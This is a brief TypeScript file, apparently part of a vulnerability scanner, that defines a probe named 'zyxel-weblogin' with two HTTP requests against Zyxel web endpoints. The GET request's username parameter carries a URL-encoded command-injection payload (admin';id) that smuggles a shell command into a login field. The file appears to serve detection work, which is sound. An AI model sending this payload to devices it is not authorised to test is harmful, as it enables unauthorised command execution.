import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'zyxel-weblogin',
    get('/cgi-bin/weblogin.cgi?username=admin%27%3Bid'),
    post('/ztp/cgi-bin/handler', '{}'),
  ),
]
